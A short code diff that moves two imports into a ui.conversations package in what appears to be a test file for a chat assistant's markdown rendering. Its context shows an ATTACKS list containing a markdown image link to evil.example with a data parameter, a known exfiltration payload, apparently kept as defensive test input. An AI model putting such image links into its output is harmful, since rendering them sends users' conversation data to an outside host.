@@ -10,8 +10,8 @@ from markdown_it import MarkdownIt
 from advisor import Language
 from assistant.reply import Citation, Reply
 from assistant.setup import Setup
-from ui.chats import Conversation, Duel, Turn
-from ui.exporting import to_json, to_markdown
+from ui.conversations.chats import Conversation, Duel, Turn
+from ui.conversations.exporting import to_json, to_markdown
 
 ATTACKS = [
     "![x](https://evil.example/?d=1)",
